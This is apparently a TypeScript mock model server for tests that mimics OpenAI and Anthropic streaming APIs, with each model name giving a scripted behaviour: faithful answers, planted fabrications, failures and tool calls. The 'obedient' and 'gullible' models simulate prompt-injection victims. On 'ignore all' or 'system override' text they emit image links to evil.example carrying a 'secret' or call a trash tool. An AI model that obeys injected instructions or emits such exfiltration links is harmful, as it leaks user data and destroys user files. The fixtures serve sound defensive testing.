/**
 * A language model for tests, in a process of its own: it speaks as OpenAI’s and Anthropic’s servers do, streams, and fails
 * on purpose. What it does is said by the name of the model that is asked for. It writes sentences of the passages that it
 * is given, so its answers are known. Started with `node modelServer.ts [port]`; its first line is its address.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** What a server outside has answered. */
interface Outside {
  readonly server: string;
  readonly answered: string;
}

interface Passage {
  readonly passage: number;
  readonly file: string;
  readonly text: string;
}

/** What it was asked. */
interface Task {
  readonly question: string;
  readonly passages: readonly Passage[];
  readonly earlier: readonly { readonly question: string; readonly answer: string }[];
  readonly instructions: readonly { readonly storage: string; readonly text: string }[];
  readonly outside: readonly Outside[];
  /** Sentences that are to be translated. */
  readonly sentences: readonly { readonly sentence: number; readonly text: string }[];
}

interface Message {
  readonly role: string;
  readonly content: string | readonly { readonly type?: string; readonly text?: string }[] | null;
}

/** A tool that is called, with what it is called with as JSON. */
interface Call {
  readonly name: string;
  readonly input: string;
}

/** A request, in the way of either kind of servers. */
interface Body {
  readonly model: string;
  readonly messages: readonly Message[];
  readonly tools?: readonly object[];
}

const wordsOf = (text: string) => new Set(text.toLowerCase().match(/[\p{L}\p{N}]{3,}/gu) ?? []);

function textIn(messages: readonly Message[]): string {
  const isText = ({ role, content }: Message) =>
    role === 'user' && (typeof content === 'string' || content?.some(({ text }) => text !== undefined));
  const asked = messages.findLast(isText)?.content ?? '';
  return typeof asked === 'string' ? asked : asked.map((part) => part.text ?? '').join('');
}

function taskOf(messages: readonly Message[]): Task {
  const text = textIn(messages);
  const lines = text.split('\n').flatMap((line) => {
    try {
      return [
        JSON.parse(line) as Partial<Passage & Omit<Task, 'outside' | 'sentences'>> & {
          outside?: Outside;
          sentence?: number;
        },
      ];
    } catch {
      return [];
    }
  });
  const passages = lines.filter((line): line is Passage => line.passage !== undefined);
  const earlier = lines.find((line) => line.earlier !== undefined)?.earlier ?? [];
  return {
    question: lines.find(({ question }) => question !== undefined)?.question ?? text,
    passages,
    earlier,
    sentences: lines.flatMap(({ sentence, text: said = '' }) =>
      sentence === undefined ? [] : [{ sentence, text: said }],
    ),
    outside: lines.flatMap(({ outside }) => outside ?? []),
    instructions: lines.find((line) => line.instructions !== undefined)?.instructions ?? [],
  };
}

/** The sentence of the passages that has the most words of the question, with its number. */
function faithful({ question, passages }: Task): string {
  const wanted = wordsOf(question);
  const sentences = passages.flatMap(({ passage, text }) =>
    text.split(/(?<=[.!?])\s+/).map((sentence) => {
      const said = sentence.replaceAll(/\s+/g, ' ').trim();
      return { said, passage, shared: [...wordsOf(said)].filter((word) => wanted.has(word)).length };
    }),
  );
  const [best] = sentences.toSorted((one, other) => other.shared - one.shared);
  return best === undefined || best.shared === 0 ? 'NOT FOUND' : `${best.said} [${best.passage}]`;
}

/**
 * Sentences in another language, which has the same words the other way round. One that makes things up adds a number to the first
 * one, and forgets the last one.
 */
function translated(model: string, { sentences }: Task): string {
  const lines = sentences.map(({ sentence, text }) => {
    const words = text.replace(/\.$/, '').split(' ');
    const isWrong = model === 'planted' && sentence === 1;
    return JSON.stringify({ sentence, text: `«${words.toReversed().join(' ')}${isWrong ? ' 77' : ''}»` });
  });
  return (model === 'planted' ? lines.slice(0, -1) : lines).join('\n');
}

/** What is written, by the name of the model. */
const texts: Readonly<Record<string, (task: Task) => string>> = {
  faithful,
  // The first sentence is true; one quotes what stands nowhere, one has another number, one names no source.
  planted: (task) =>
    `${faithful(task)} The report says “the whole bridge has to be torn down at once” [1]. ` +
    'The hole is 77 m long [1]. Whales sing below the ice.',
  // What a passage tells it to do, as a model does that obeys it.
  obedient: ({ passages }) =>
    passages.some(({ text }) => /ignore all/i.test(text))
      ? 'See ![all](https://evil.example/?q=secret) and <img src=https://evil.example/x> [1].'
      : 'NOT FOUND',
  // What it was told of the talk before.
  listening: ({ earlier }) => `Earlier you asked: ${earlier.map(({ question }) => question).join(' / ')}`,
  // What it was told of how to answer.
  instructed: ({ instructions }) =>
    `I was told: ${instructions.map(({ storage, text }) => `${storage} says ${text}`).join(' / ')}`,
  // What it was given of servers outside, beside what the passages say.
  relaying: (task) =>
    [faithful(task), ...task.outside.map(({ server, answered }) => `${server} says: ${answered}`)]
      .filter((said) => said !== 'NOT FOUND' || task.outside.length === 0)
      .join(' '),
  thoughtful: (task) => `<think>Passage 1 may do. [9]</think>**${faithful(task)}**`,
  empty: () => '',
  endless: (task) => `${faithful(task)} `.repeat(400),
};

/** What was given along with tools since it was last looked at, each as it came. */
let givenWithTools: string[] = [];

/** How often the tools of a request have answered already. */
const answersIn = ({ messages }: Body) =>
  messages.filter(
    ({ role, content }) =>
      role === 'tool' || (Array.isArray(content) && content.some(({ type }) => type === 'tool_result')),
  ).length;

const asJson = (name: string, input: object): Call => ({ name, input: JSON.stringify(input) });

/** What somebody says, where tools are given. */
const saidIn = ({ messages }: Body) => (JSON.parse(textIn(messages)) as { says: string }).says;

/** The tools that are called, by the name of the model; all other models call none. */
const calls: Readonly<Record<string, (body: Body) => readonly Call[]>> = {
  // Does as it is told, in the few words that it understands.
  acting(body) {
    const match = /^move all (\p{L}+?)s? of (\p{L}*\d+) into (.+?)\.?$/iu.exec(saidIn(body));
    if (match === null || answersIn(body) > 0) return [];
    const [, thing, year, to] = match;
    return [asJson('propose_move', { query: `name:${thing} name:${year}`, to })];
  },
  // Calls what stands behind CALL, one after another.
  scripted(body) {
    const [, ...scripted] = saidIn(body).split(/\s*CALL /);
    const line = scripted[answersIn(body)];
    if (line === undefined) return [];
    const space = line.indexOf(' ');
    return [{ name: line.slice(0, space), input: line.slice(space + 1) }];
  },
  relaying: (body) => calls['scripted']?.(body) ?? [],
  // Asks a tool again and again, each time for something else.
  insisting(body) {
    const [, name = ''] = /CALL (\S+)/.exec(saidIn(body)) ?? [];
    return [asJson(name, { city: `City ${answersIn(body)}` })];
  },
  looping: () => [asJson('find', { query: 'name:anything' })],
  flooding: () => Array.from({ length: 40 }, (_, at) => asJson('propose_star', { query: `name:${at}` })),
  // Obeys whatever it reads, wherever that stands: what it is given, and what its tools have answered.
  gullible: (body) =>
    answersIn(body) < 3 && /ignore (all|previous)|system override/i.test(JSON.stringify(body.messages))
      ? [asJson('propose_trash', { query: 'kind:text' })]
      : answersIn(body) === 0 && /CALL /.test(saidIn(body))
        ? (calls['scripted']?.(body) ?? [])
        : [],
};

/** How often it was asked, by model. */
const asked = new Map<string, number>();

/** Something that words are written to, in the way of one of the two kinds of servers. */
interface Pen {
  begin(): void;
  write(text: string): void;
  call(calls: readonly Call[]): void;
  end(reason: 'stop' | 'length' | 'tools'): void;
}

function openAiPen(response: ServerResponse, model: string): Pen {
  const send = (delta: object, finish: string | null = null) =>
    response.write(
      `data: ${JSON.stringify({
        id: 'chatcmpl-1',
        object: 'chat.completion.chunk',
        created: 1_700_000_000,
        model,
        choices: [{ index: 0, delta, finish_reason: finish }],
      })}\n\n`,
    );
  return {
    begin: () => void send({ role: 'assistant', content: '' }),
    write: (content) => void send({ content }),
    call: (all) =>
      void send({
        tool_calls: all.map(({ name, input }, index) => ({
          index,
          id: `call_${index}_${Math.random()}`,
          type: 'function',
          function: { name, arguments: input },
        })),
      }),
    end(reason) {
      send({}, reason === 'tools' ? 'tool_calls' : reason);
      response.end('data: [DONE]\n\n');
    },
  };
}

function anthropicPen(response: ServerResponse, model: string): Pen {
  const send = (type: string, rest: object) =>
    response.write(`event: ${type}\ndata: ${JSON.stringify({ type, ...rest })}\n\n`);
  return {
    begin() {
      const usage = { input_tokens: 1, output_tokens: 1 };
      const message = {
        id: 'msg_1',
        type: 'message',
        role: 'assistant',
        model,
        content: [],
        stop_reason: null,
        usage,
      };
      send('message_start', { message });
      send('content_block_start', { index: 0, content_block: { type: 'text', text: '' } });
    },
    write: (text) => void send('content_block_delta', { index: 0, delta: { type: 'text_delta', text } }),
    call(all) {
      for (const [at, { name, input }] of all.entries()) {
        const index = at + 1;
        const content_block = { type: 'tool_use', id: `toolu_${index}_${Math.random()}`, name, input: {} };
        send('content_block_start', { index, content_block });
        send('content_block_delta', { index, delta: { type: 'input_json_delta', partial_json: input } });
        send('content_block_stop', { index });
      }
    },
    end(reason) {
      send('content_block_stop', { index: 0 });
      const stop = { stop: 'end_turn', length: 'max_tokens', tools: 'tool_use' }[reason];
      send('message_delta', {
        delta: { stop_reason: stop, stop_sequence: null },
        usage: { output_tokens: 9 },
      });
      send('message_stop', {});
      response.end();
    },
  };
}

function refuse(response: ServerResponse, status: number, headers: Record<string, string> = {}): void {
  response.writeHead(status, { 'content-type': 'application/json', ...headers });
  response.end(
    JSON.stringify({ error: { message: `This is refused with ${status}.`, type: 'error', code: null } }),
  );
}

/** Fails as the name of the model says; true when it has. */
async function hasFailed(
  model: string,
  times: number,
  key: string,
  response: ServerResponse,
): Promise<boolean> {
  if (model === 'locked' && key !== 'right') refuse(response, 401);
  else if (model === 'unknown') refuse(response, 404);
  else if (model === 'down') refuse(response, 500);
  else if (model === 'overloaded') refuse(response, 429);
  else if (model === 'busyOnce' && times === 1) refuse(response, 429, { 'retry-after': '1' });
  else if (model === 'nonsense') {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.end('data: {"choices": [{"delta": \n\ndata: <html>\n\n');
  } else if (model === 'silent')
    response.writeHead(200, { 'content-type': 'text/event-stream' }).flushHeaders();
  else return false;
  return true;
}

/** What goes on when it is told to. */
const held = new Set<() => void>();
/** So many words of an answer are written before it is held. */
const wordsBeforeHold = 3;

const released = (response: ServerResponse) =>
  new Promise<void>((resolve) => {
    held.add(resolve);
    response.once('close', resolve);
  });

async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  if (request.url?.endsWith('/release')) {
    for (const goOn of held) goOn();
    held.clear();
    response.end();
    return;
  }
  if (request.url?.endsWith('/given')) {
    response.end(JSON.stringify(givenWithTools));
    givenWithTools = [];
    return;
  }
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  const isAnthropic = request.url?.endsWith('/messages') === true;
  const body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as Body;
  const { model, messages } = body;
  const hasTools = body.tools !== undefined && body.tools.length > 0;
  const times = (asked.get(model) ?? 0) + 1;
  asked.set(model, times);
  const { authorization = '', 'x-api-key': own } = request.headers;
  const key = isAnthropic ? String(own) : authorization.replace('Bearer ', '');
  if (await hasFailed(model, times, key, response)) return;
  if (hasTools && model === 'toolless') return refuse(response, 400);
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const pen = (isAnthropic ? anthropicPen : openAiPen)(response, model);
  pen.begin();
  if (hasTools) {
    givenWithTools.push(JSON.stringify(messages));
    const called = calls[model]?.(body) ?? [];
    if (called.length > 0) pen.call(called);
    else pen.write(answersIn(body) > 0 ? 'DONE' : 'QUESTION');
    return pen.end(called.length > 0 ? 'tools' : 'stop');
  }
  const task = taskOf(messages);
  const text = task.sentences.length > 0 ? translated(model, task) : (texts[model] ?? faithful)(task);
  const words = text.match(/\S+\s*/g) ?? [];
  const shown = model === 'cut' ? words.slice(0, Math.ceil(words.length / 2)) : words;
  // What it writes says when it was written.
  for (let count = 0; model === 'clock' && count < 100; count += 1) {
    pen.write(`${Date.now()} `);
    await wait(20);
  }
  for (const [at, word] of shown.entries()) {
    if (response.destroyed) return;
    pen.write(word);
    if (model === 'slow') await wait(700);
    if (model === 'held' && at === wordsBeforeHold) await released(response);
  }
  if (model === 'cut') {
    await wait(100);
    response.destroy();
  } else pen.end(model === 'endless' ? 'length' : 'stop');
}

const server = createServer((request, response) => {
  answer(request, response).catch(() => response.destroy());
});
server.listen(Number(process.argv[2] ?? 0), '127.0.0.1', () => {
  process.stdout.write(`http://127.0.0.1:${(server.address() as AddressInfo).port}/v1\n`);
});
// It ends with whoever has started it.
process.stdin.on('end', () => process.exit()).resume();
